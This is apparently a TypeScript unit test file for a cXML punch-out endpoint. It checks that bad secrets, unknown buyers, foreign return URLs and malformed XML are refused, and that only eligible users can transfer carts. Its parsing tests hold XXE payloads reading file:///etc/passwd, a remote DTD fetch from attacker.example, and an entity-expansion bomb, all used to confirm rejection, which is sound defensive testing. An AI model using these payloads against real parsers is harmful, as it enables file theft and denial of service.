// Punch-out without a stack: the cXML setup's refusals (answered by the entry itself, before any ERP
// call or session) and who may transfer a cart. The entries that start sessions and carts that go
// back to the procurement system are in field.integration.test.ts.
import { Readable } from 'node:stream';
import type { IncomingMessage, ServerResponse } from 'node:http';
import { describe, expect, it } from 'vitest';
import { principalOf, unitGateway } from '../testing/unit.ts';
import { erpFieldUser } from '../testing/erp-answers/field-user.ts';
import { handlePunchOut } from './entry.ts';
import { DTD_REFUSED } from './cxml.ts';
import { SYSTEM, TRANSFER, setupRequest, xml, type Form, type Status } from './field-testing.ts';

type Answer = { status: number; headers: Record<string, string>; body: string };

/** POSTs `body` to /punchout/cxml in process; the answer as the procurement system reads it. */
const postSetup = async (body: string) => {
  const gateway = await unitGateway({}, { principal: null, config: { punchOutSystems: [SYSTEM] } });
  const request = Object.assign(Readable.from([Buffer.from(body)]), {
    method: 'POST',
    url: '/punchout/cxml',
    headers: { 'content-type': 'text/xml', host: 'store.example' },
    socket: { remoteAddress: '127.0.0.1' },
  }) as unknown as IncomingMessage;
  const answer: Answer = { status: 0, headers: {}, body: '' };
  const response = {
    setHeader(name: string, value: string) {
      answer.headers[name] = value;
      return response;
    },
    writeHead(status: number, headers: Record<string, string>) {
      Object.assign(answer, { status, headers: { ...answer.headers, ...headers } });
      return response;
    },
    end(text: string) {
      answer.body = text;
      return response;
    },
  } as unknown as ServerResponse;
  await handlePunchOut({ services: gateway.services, request, response, requestId: 'unit-request' }, '/punchout/cxml');
  const parsed = xml.parse(answer.body) as {
    cXML: { Response: { Status: Status; PunchOutSetupResponse?: unknown } };
  };
  return { status: answer.status, response: parsed.cXML.Response, erpCalls: gateway.calls, headers: answer.headers };
};

describe('cXML punch-out', () => {
  it('refuses a wrong secret (401), an unknown buyer or return address (403) and bad XML (400), starting nothing', async () => {
    const wrong = await postSetup(setupRequest({ secret: 'guess' }));
    expect([wrong.status, wrong.response.Status['@_code']]).toEqual([401, '401']);
    expect(wrong.response.PunchOutSetupResponse).toBeUndefined();
    const stranger = await postSetup(setupRequest({ from: 'GLOBEX' }));
    expect([stranger.status, stranger.response.Status['@_code']]).toEqual([403, '403']);
    const elsewhere = await postSetup(setupRequest({ url: 'https://attacker.example/steal' }));
    expect([elsewhere.status, elsewhere.response.Status['@_code']]).toEqual([403, '403']);
    const broken = await postSetup('<cXML><Header>');
    expect([broken.status, broken.response.Status['@_code']]).toEqual([400, '400']);
    const noCookie = await postSetup(setupRequest({ cookie: '' }));
    expect(noCookie.status).toBe(400);
    // Nobody was logged in: the ERP was never asked.
    for (const refused of [wrong, stranger, elsewhere, broken, noCookie])
      expect(refused.response.PunchOutSetupResponse).toBeUndefined();
    expect([wrong, stranger, elsewhere, broken, noCookie].flatMap((refused) => refused.erpCalls)).toEqual([]);
  });
});

describe('who may transfer', () => {
  type Transfer = { transferCart: { form: Form | null; userErrors: { code: string; message: string }[] } };

  it('refuses buyers, punch-out users who logged in on the store’s own page, and guests', async () => {
    const buyer = await unitGateway({ 'GET /user/{id}': () => erpFieldUser() });
    expect((await buyer.run<Transfer>(TRANSFER)).data!.transferCart.userErrors[0]?.code).toBe('FORBIDDEN');
    // Pat Punchout, logged in on the store's page: a punch-out user with no procurement system to return to.
    const pat = principalOf({ userId: 7, username: 'punchout@acme.example' });
    const punchout = await unitGateway(
      { 'GET /user/{id}': () => erpFieldUser({ id: 7, user_type: 'punchout' }) },
      { principal: pat },
    );
    const own = (await punchout.run<Transfer>(TRANSFER)).data!.transferCart;
    expect(own.userErrors[0]?.message).toContain('not started from a procurement system');
    expect(own.form).toBeNull();
    const guest = await unitGateway({}, { principal: null });
    expect((await guest.run(TRANSFER)).errors?.[0]?.extensions?.code).toBe('UNAUTHENTICATED');
  });
});

describe('cXML parsing', () => {
  it("refuses a document that declares entities or a DTD subset (400, connection closed), reading cXML's own DOCTYPE", async () => {
    const withSubset = (subset: string) =>
      setupRequest().replace(
        '<!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.014/cXML.dtd">',
        `<!DOCTYPE cXML [${subset}]>`,
      );
    for (const body of [
      withSubset('<!ENTITY xxe SYSTEM "file:///etc/passwd">').replace('<BuyerCookie>', '<BuyerCookie>&xxe;'),
      withSubset('<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;'),
      withSubset('<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'),
      withSubset(''),
    ]) {
      const refused = await postSetup(body);
      expect([refused.status, refused.response.Status['@_code'], refused.response.Status['#text']]).toEqual([
        400,
        '400',
        DTD_REFUSED,
      ]);
      expect(refused.headers.connection).toBe('close');
      expect(refused.erpCalls).toEqual([]);
    }
    // cXML's own DOCTYPE names the DTD by URL (never fetched) and passes: this one fails later, on its secret.
    expect((await postSetup(setupRequest({ secret: 'guess' }))).status).toBe(401);
  });
});
